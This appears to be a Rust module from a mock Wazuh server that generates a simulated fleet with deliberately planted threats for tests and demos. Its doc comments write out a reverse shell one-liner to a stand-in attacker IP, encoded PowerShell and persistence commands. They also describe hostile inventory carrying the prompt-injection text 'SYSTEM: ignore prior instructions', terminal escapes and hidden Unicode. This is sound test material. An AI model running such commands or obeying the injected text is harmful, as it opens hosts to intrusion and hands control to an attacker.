//! The simulated deployment: a fleet of agents and everything Wazuh knows about them, generated
//! deterministically from a seed.
//!
//! Items are `serde_json::Value`s shaped exactly as the manager API returns them in
//! `affected_items` (or as the indexer stores them in `_source`), so the HTTP layer only adds
//! envelopes, filters and paging. Per-agent inventory is generated on demand from the seed and
//! the agent id, so a fleet of 10,000 agents stays small in memory.
//!
//! # Planted threats
//!
//! With at least five agents the first ones are fixed, so tests and demos can rely on them
//! (see [`World::planted_threats`]); `192.168.1.100` ([`ATTACKER_IP`]) is the attacker:
//!
//! | agent | host | threat |
//! |---|---|---|
//! | `001` | `web-01` (Ubuntu 22.04, nginx) | web attacks from 192.168.1.100, then a reverse shell `bash -i >& /dev/tcp/192.168.1.100/4444 0>&1` (process, established port, auditd alert 80792) and a root crontab persistence (process, FIM item, alerts 2833 and 550) |
//! | `002` | `WIN-DC01` (Server 2022) | PowerShell `-EncodedCommand` (process, alert 92057), Run-key persistence via `reg add ...\Run` (processes, registry FIM item, alert 92302), connection to 192.168.1.100 (ports, alert 92107) |
//! | `003` | `<DEPT>-LAPTOP-01` (Windows 11) | PowerShell `-EncodedCommand` (process, alert 92057), connection to 192.168.1.100:8080 |
//! | `004` | `db-<env>-01` (RHEL 9) | SSH brute force from 192.168.1.100 (5710 ×10, 5712) then a successful login (5715), established SSH session from 192.168.1.100 |
//!
//! # Hostile data
//!
//! With at least six agents, `005` ([`HOSTILE_AGENT`], a macOS laptop) also carries inventory
//! an attacker would write to get at the model reading it (see the `hostile` module): a package
//! with ANSI escapes and prompt-injection text in its name, version and vendor and a `../`
//! location; a process whose command line holds a terminal-title escape, CR LF and "SYSTEM:
//! ignore prior instructions"; a process whose command line is 40,000 characters long; and a
//! listening port (31337) whose process name hides zero-width characters and a right-to-left
//! override.

use std::borrow::Cow;
use std::collections::HashMap;
use std::sync::Arc;

use chrono::{DateTime, Utc};
use serde_json::{Value, json};

use crate::config::ApiVersion;
use crate::reference::Reference;

mod alerts;
mod catalog;
mod fim;
mod fleet;
mod hostile;
mod inventory;
mod mitre;
mod rng;
mod sca;
#[cfg(test)]
mod tests;
mod vulns;

pub use alerts::{ALERT_DAYS, ALERTS_PER_AGENT_DAY, MAX_ALERTS};
pub use catalog::Family;
pub use fim::CRONTAB_PATH;
pub use fleet::ATTACKER_IP;
pub use hostile::{
    HOSTILE_AGENT, HOSTILE_CMDLINE, HOSTILE_PACKAGE_LOCATION, HOSTILE_PACKAGE_NAME,
    HOSTILE_PACKAGE_VENDOR, HOSTILE_PACKAGE_VERSION, HOSTILE_PORT, HOSTILE_PORT_PROCESS,
    HOSTILE_PROCESS_NAME, OVERSIZE_CMDLINE_CHARS, OVERSIZE_PROCESS_NAME, oversize_cmdline,
};
pub use inventory::{
    CRON_PERSISTENCE_CMDLINE, ENCODED_POWERSHELL_SCRIPT, REVERSE_SHELL_CMDLINE, RUN_KEY_CMDLINE,
    encoded_powershell_cmdline,
};

use fleet::{CLUSTER_NAME, Profile};

/// What to generate.
#[derive(Debug, Clone)]
pub struct WorldConfig {
    /// Number of agents besides the manager (`000`).
    pub agents: usize,
    /// Seed of all generated data.
    pub seed: u64,
    /// API flavour (the manager's own version string follows it).
    pub api_version: ApiVersion,
    /// "Now" for every generated timestamp (alerts cover the days before it).
    pub now: DateTime<Utc>,
}

/// The syscollector inventory kinds of `GET /syscollector/{agent_id}/{kind}`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Syscollector {
    /// Operating system.
    Os,
    /// CPU, memory, board.
    Hardware,
    /// Installed packages and programs.
    Packages,
    /// Running processes.
    Processes,
    /// Open sockets.
    Ports,
    /// Network addresses.
    Netaddr,
    /// Network interfaces.
    Netiface,
    /// Routing / DHCP per interface.
    Netproto,
    /// Windows updates.
    Hotfixes,
}

/// The `wazuh-states-inventory-*` indices (4.13+).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InventoryKind {
    /// `wazuh-states-inventory-packages-<cluster>`.
    Packages,
    /// `wazuh-states-inventory-ports-<cluster>`.
    Ports,
    /// `wazuh-states-inventory-processes-<cluster>`.
    Processes,
    /// `wazuh-states-inventory-system-<cluster>`.
    System,
    /// `wazuh-states-inventory-hotfixes-<cluster>`.
    Hotfixes,
}

impl InventoryKind {
    /// The index name, e.g. `wazuh-states-inventory-packages-wazuh`.
    pub fn index(self) -> String {
        let k = match self {
            InventoryKind::Packages => "packages",
            InventoryKind::Ports => "ports",
            InventoryKind::Processes => "processes",
            InventoryKind::System => "system",
            InventoryKind::Hotfixes => "hotfixes",
        };
        format!("wazuh-states-inventory-{k}-{CLUSTER_NAME}")
    }
}

/// Name of the vulnerability states index.
pub const VULNERABILITY_INDEX: &str = "wazuh-states-vulnerabilities-wazuh";

/// One indexer document.
#[derive(Debug, Clone)]
pub struct Doc {
    /// Concrete index name, e.g. `wazuh-alerts-4.x-2026.11.27`.
    pub index: Arc<str>,
    /// Document `_id`.
    pub id: String,
    /// Document `_source`.
    pub source: Value,
}

/// Kind of a planted threat.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ThreatKind {
    /// `powershell.exe -EncodedCommand ...`.
    EncodedPowershell,
    /// `bash -i >& /dev/tcp/192.168.1.100/4444 0>&1`.
    ReverseShell,
    /// A root crontab entry (Linux) or a Run registry key (Windows).
    Persistence,
    /// Connections to or from [`ATTACKER_IP`].
    AttackerConnection,
}

/// A threat planted on one agent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlantedThreat {
    /// Agent id.
    pub agent_id: String,
    /// Agent name.
    pub agent_name: String,
    /// What was planted.
    pub kind: ThreatKind,
    /// The command line, path or address that shows it.
    pub indicator: String,
}

/// The generated deployment.
#[derive(Debug)]
pub struct World {
    /// What was generated.
    pub config: WorldConfig,
    /// Stock content the data was built from.
    pub reference: Arc<Reference>,
    profiles: Vec<Profile>,
    agents: Vec<Value>,
    by_id: HashMap<String, usize>,
    alerts: Vec<Doc>,
    vulnerability_states: Vec<Doc>,
}

impl World {
    /// Generates the deployment.
    pub fn generate(config: WorldConfig, reference: Arc<Reference>) -> World {
        let profiles = fleet::generate(&config);
        let agents: Vec<Value> = profiles
            .iter()
            .map(|p| fleet::agent_json(p, &config))
            .collect();
        let by_id = profiles
            .iter()
            .enumerate()
            .map(|(i, p)| (p.id.clone(), i))
            .collect();
        let alerts = alerts::generate(&config, &reference, &profiles);
        let index: Arc<str> = Arc::from(VULNERABILITY_INDEX);
        let vulnerability_states = profiles
            .iter()
            .filter(|p| p.id != "000")
            .flat_map(|p| vulns::states(config.seed, p, config.now))
            .map(|(id, source)| Doc {
                index: index.clone(),
                id,
                source,
            })
            .collect();
        World {
            config,
            reference,
            profiles,
            agents,
            by_id,
            alerts,
            vulnerability_states,
        }
    }

    fn profile(&self, id: &str) -> Option<&Profile> {
        self.by_id.get(id).and_then(|i| self.profiles.get(*i))
    }

    /// Every agent, `000` (the manager) first, as `GET /agents` items with all fields.
    pub fn agents(&self) -> &[Value] {
        &self.agents
    }

    /// One agent by id.
    pub fn agent(&self, id: &str) -> Option<&Value> {
        self.by_id.get(id).and_then(|i| self.agents.get(*i))
    }

    /// Syscollector items of one agent; `None` for an unknown agent (empty for agents that
    /// never reported).
    pub fn syscollector(&self, agent_id: &str, kind: Syscollector) -> Option<Vec<Value>> {
        let p = self.profile(agent_id)?;
        if !p.has_data() {
            return Some(Vec::new());
        }
        let seed = self.config.seed;
        let inv = inventory::build(seed, p, self.config.now);
        Some(match kind {
            Syscollector::Os => vec![inventory::os_item(p, &inv)],
            Syscollector::Hardware => vec![inventory::hardware_item(seed, p, &inv)],
            Syscollector::Packages => inventory::package_items(p, &inv),
            Syscollector::Processes => inventory::process_items(p, &inv),
            Syscollector::Ports => inventory::port_items(p, &inv),
            Syscollector::Netaddr => inventory::netaddr_items(p),
            Syscollector::Netiface => inventory::netiface_items(seed, p, &inv),
            Syscollector::Netproto => inventory::netproto_items(p),
            Syscollector::Hotfixes => inventory::hotfix_items(p, &inv),
        })
    }

    /// `GET /sca/{agent_id}` items; `None` for an unknown agent.
    pub fn sca(&self, agent_id: &str) -> Option<Vec<Value>> {
        let p = self.profile(agent_id)?;
        Some(sca::summary(
            self.config.seed,
            &self.reference,
            p,
            self.config.now,
        ))
    }

    /// `GET /sca/{agent_id}/checks/{policy_id}` items; `None` for an unknown agent or policy.
    pub fn sca_checks(&self, agent_id: &str, policy_id: &str) -> Option<Vec<Value>> {
        let p = self.profile(agent_id)?;
        sca::checks(self.config.seed, &self.reference, p, policy_id)
    }

    /// `GET /syscheck/{agent_id}` items; `None` for an unknown agent.
    pub fn syscheck(&self, agent_id: &str) -> Option<Vec<Value>> {
        let p = self.profile(agent_id)?;
        Some(fim::syscheck(self.config.seed, p, self.config.now))
    }

    /// `GET /rootcheck/{agent_id}` items; `None` for an unknown agent.
    pub fn rootcheck(&self, agent_id: &str) -> Option<Vec<Value>> {
        let p = self.profile(agent_id)?;
        Some(fim::rootcheck(self.config.seed, p, self.config.now))
    }

    /// `GET /vulnerability/{agent_id}` items (4.7.5 API); `None` for an unknown agent.
    pub fn vulnerabilities(&self, agent_id: &str) -> Option<Vec<Value>> {
        let p = self.profile(agent_id)?;
        Some(vulns::items_475(self.config.seed, p, self.config.now))
    }

    /// `GET /groups` items.
    pub fn groups(&self) -> Vec<Value> {
        let mut names: Vec<&str> = Vec::new();
        let mut counts: HashMap<&str, usize> = HashMap::new();
        for p in &self.profiles {
            for g in &p.groups {
                if !counts.contains_key(g.as_str()) {
                    names.push(g);
                }
                *counts.entry(g).or_insert(0) += 1;
            }
        }
        if !names.contains(&"default") {
            names.insert(0, "default");
        }
        names.sort_unstable();
        names
            .into_iter()
            .map(|n| {
                let (merged, config) = fleet::group_sums(n);
                json!({
                    "name": n,
                    "count": counts.get(n).copied().unwrap_or(0),
                    "mergedSum": merged,
                    "configSum": config,
                })
            })
            .collect()
    }

    /// `GET /mitre/{techniques,tactics,groups}` items.
    pub fn mitre(&self, kind: &str) -> Vec<Value> {
        mitre::items(&self.reference, kind)
    }

    /// Alert documents of `wazuh-alerts-4.x-*`, oldest first.
    pub fn alerts(&self) -> &[Doc] {
        &self.alerts
    }

    /// Documents of `wazuh-states-vulnerabilities-<cluster>` (4.8+).
    pub fn vulnerability_states(&self) -> &[Doc] {
        &self.vulnerability_states
    }

    /// Documents of `wazuh-states-inventory-<kind>-<cluster>` (4.13+), generated on the fly.
    pub fn inventory_states(
        &self,
        kind: InventoryKind,
    ) -> Box<dyn Iterator<Item = Cow<'_, Doc>> + '_> {
        let index: Arc<str> = Arc::from(kind.index().as_str());
        let seed = self.config.seed;
        let now = self.config.now;
        Box::new(
            self.profiles
                .iter()
                .filter(|p| p.has_data())
                .flat_map(move |p| {
                    let docs: Vec<(String, Value)> = match kind {
                        InventoryKind::System => vec![inventory::system_state(p)],
                        _ => {
                            let inv = inventory::build(seed, p, now);
                            match kind {
                                InventoryKind::Packages => inventory::package_states(p, &inv),
                                InventoryKind::Ports => inventory::port_states(p, &inv),
                                InventoryKind::Processes => inventory::process_states(p, &inv),
                                InventoryKind::Hotfixes => inventory::hotfix_states(p, &inv),
                                InventoryKind::System => Vec::new(),
                            }
                        }
                    };
                    let index = index.clone();
                    docs.into_iter().map(move |(id, source)| {
                        Cow::Owned(Doc {
                            index: index.clone(),
                            id,
                            source,
                        })
                    })
                }),
        )
    }

    /// The threats planted in this world (empty for fleets too small to hold them).
    pub fn planted_threats(&self) -> Vec<PlantedThreat> {
        let mut out = Vec::new();
        for p in &self.profiles {
            if !p.has_data() {
                continue;
            }
            let mut add = |kind, indicator: String| {
                out.push(PlantedThreat {
                    agent_id: p.id.clone(),
                    agent_name: p.name.clone(),
                    kind,
                    indicator,
                })
            };
            let windows = p.family() == Family::Windows;
            if p.planted.encoded_powershell && windows {
                add(ThreatKind::EncodedPowershell, encoded_powershell_cmdline());
            }
            if p.planted.reverse_shell && !windows {
                add(ThreatKind::ReverseShell, REVERSE_SHELL_CMDLINE.to_string());
            }
            if p.planted.persistence {
                let ind = if windows {
                    RUN_KEY_CMDLINE.to_string()
                } else {
                    CRONTAB_PATH.to_string()
                };
                add(ThreatKind::Persistence, ind);
            }
            if p.planted.attacker_connection {
                add(ThreatKind::AttackerConnection, ATTACKER_IP.to_string());
            }
        }
        out
    }
}
